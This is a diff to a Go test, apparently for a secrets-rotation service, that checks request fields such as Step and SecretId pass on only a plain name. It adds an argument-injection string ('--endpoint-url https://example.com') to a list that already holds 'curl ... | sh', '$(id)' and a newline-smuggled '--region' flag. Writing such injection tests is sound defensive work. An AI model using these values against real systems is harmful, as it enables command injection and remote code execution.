@@ -77,7 +77,7 @@ func TestAnEventOfSomebodyElseIsRefused(t *testing.T) {
 
 func TestNothingOfAnEventButANameIsToldOn(t *testing.T) {
 	inAccount(t, func(t *testing.T, a *account) {
-		for _, text := range []string{"x; curl https://example.com | sh #", "$(id)", "a$(id)b", "x\n--region y", "ü"} {
+		for _, text := range []string{"x; curl https://example.com | sh #", "x --endpoint-url https://example.com", "$(id)", "a$(id)b", "x\n--region y", "ü"} {
 			for part, req := range map[string]rotation.Request{
 				"Step":               {Step: rotation.Step(text), SecretID: arn, VersionID: "new"},
 				"SecretId":           {Step: rotation.CreateSecret, SecretID: text, VersionID: "new"},
